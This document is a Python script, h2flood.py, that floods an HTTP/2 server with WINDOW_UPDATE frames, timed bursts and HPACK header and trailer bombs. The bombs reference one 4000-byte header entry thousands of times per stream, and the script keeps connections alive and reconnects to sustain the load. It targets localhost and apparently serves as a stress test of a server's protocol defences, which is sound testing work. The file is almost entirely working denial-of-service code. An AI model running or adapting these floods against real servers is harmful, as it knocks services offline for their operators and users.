#!/usr/bin/python3
# usage: h2flood.py MODE CONNS BYTES_PER_SEC_PER_CONN SECONDS [opts]
# MODE wu: WINDOW_UPDATE(stream 0, +1) frames;  trailerbomb: held POST stream + HPACK-bomb trailers, repeat
#      burst: idle then send whole budget-worth at once (opts: idle seconds)
# Keeps each connection alive (answers PING/SETTINGS), reconnects when closed; prints GOAWAY codes seen.
import asyncio, struct, sys, time
mode=sys.argv[1]; N=int(sys.argv[2]); RATE=float(sys.argv[3]); DUR=float(sys.argv[4]); OPT=sys.argv[5:]
import os; HOST='127.0.0.1'; PORT=int(os.environ.get('PORT','18080'))
def frame(t,f,sid,p=b''): return struct.pack('>I',len(p))[1:]+bytes([t,f])+struct.pack('>I',sid)+p
PREFACE=b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
def hdrs(path,method='POST'):
    # static-table only (no dynamic-table insertions)
    m={'POST':0x83,'GET':0x82}[method]
    return bytes([m,0x86,0x04,len(path)])+path.encode()+bytes([0x01,1])+b'x'
WU=frame(8,0,0,struct.pack('>I',1))
stats={'goaway':{},'conns':0,'sent':0,'closed':0}
def bomb():
    # new literal-with-indexing 4000-byte value then 3000 refs to dynamic index 62 (fits 9 KB frame w/ 1-2 byte refs)
    name=b'x-b'; val=b'a'*4000
    blk=bytes([0x40,len(name)])+name+bytes([0x7f])+ (lambda n: bytes(_int7(n)))(len(val)-127)+val
    return blk
def _int7(n):
    out=[]
    while n>=128: out.append((n&0x7f)|0x80); n>>=7
    out.append(n); return out
async def reader(r,w,st):
    try:
        while True:
            h=await r.readexactly(9); ln=int.from_bytes(h[:3],'big'); t=h[3]; fl=h[4]
            p=await r.readexactly(ln)
            if t==4 and not fl&1: w.write(frame(4,1,0))
            elif t==6 and not fl&1: w.write(frame(6,1,0,p))
            elif t==3: k='rst%d'%int.from_bytes(p[:4],'big'); stats[k]=stats.get(k,0)+1
            elif t==1: stats['headers_in']=stats.get('headers_in',0)+1
            elif t==7:
                code=int.from_bytes(p[4:8],'big'); stats['goaway'][code]=stats['goaway'].get(code,0)+1
                if len(p)>8: stats.setdefault('msg',p[8:200])
    except Exception: pass
    st['dead']=True
async def one(i, end):
    sid=1
    while time.time()<end:
        try: r,w=await asyncio.open_connection(HOST,PORT)
        except Exception: await asyncio.sleep(0.5); continue
        stats['conns']+=1; st={'dead':False}
        w.write(PREFACE+frame(4,0,0)+frame(8,0,0,struct.pack('>I',1<<30)))
        w.write(frame(1,4,1,hdrs('/clients')))  # held: POST /clients without END_STREAM
        rt=asyncio.ensure_future(reader(r,w,st)); sid=3
        chunk_t=0.05
        try:
            if mode=='wu':
                n=max(1,int(RATE*chunk_t/13)); buf=WU*n
                while not st['dead'] and time.time()<end:
                    w.write(buf); stats['sent']+=len(buf); await w.drain(); await asyncio.sleep(chunk_t)
            elif mode=='burst':
                idle=float(OPT[0]); mb=float(OPT[1])
                while not st['dead'] and time.time()<end:
                    await asyncio.sleep(idle)
                    buf=WU*int(mb*1048576/13); w.write(buf); stats['sent']+=len(buf); await w.drain()
            elif mode=='hdrbomb':
                # each new stream's HEADERS (END_STREAM) = GET /clients + 3000 refs to a 4000-byte entry: refused (header list too large)
                nm=b'x-b'; val=b'a'*4000
                first=bytes([0x40,len(nm)])+nm+bytes([0x7f]+_int7(len(val)-127))+val
                refs=bytes([0xbe])*3000
                interval=3040/RATE; sentfirst=False
                while not st['dead'] and time.time()<end:
                    blk=hdrs('/clients','GET')+(first if not sentfirst else b'')+refs; sentfirst=True
                    w.write(frame(1,5,sid,blk)); stats['sent']+=len(blk)+9
                    sid+=2; await w.drain(); await asyncio.sleep(interval)
            elif mode=='trailerbomb':
                # per round: stream sid HEADERS (POST /clients, no END_STREAM) then trailers: bomb
                nm=b'x-b'; val=b'a'*4000
                first=bytes([0x40,len(nm)])+nm+bytes([0x7f]+_int7(len(val)-127))+val
                refs=bytes([0xbe])*3000   # indexed 62
                sentfirst=False
                per=3040
                interval=per/RATE
                while not st['dead'] and time.time()<end:
                    w.write(frame(1,4,sid,hdrs('/clients')))
                    blk=(first if not sentfirst else b'')+refs; sentfirst=True
                    w.write(frame(1,5,sid,blk)); stats['sent']+=len(blk)+60
                    sid+=2; await w.drain(); await asyncio.sleep(interval)
        except Exception: pass
        stats['closed']+=1; rt.cancel()
        try: w.close()
        except Exception: pass
        await asyncio.sleep(0.2)
async def main():
    end=time.time()+DUR
    await asyncio.gather(*[one(i,end) for i in range(N)])
asyncio.run(main())
print({k:v for k,v in stats.items() if k.startswith('rst') or k=='headers_in'});print(mode,'conns opened',stats['conns'],'closed',stats['closed'],'MB sent %.1f'%(stats['sent']/1e6),'goaway codes',stats['goaway'],stats.get('msg',b'')[:160])
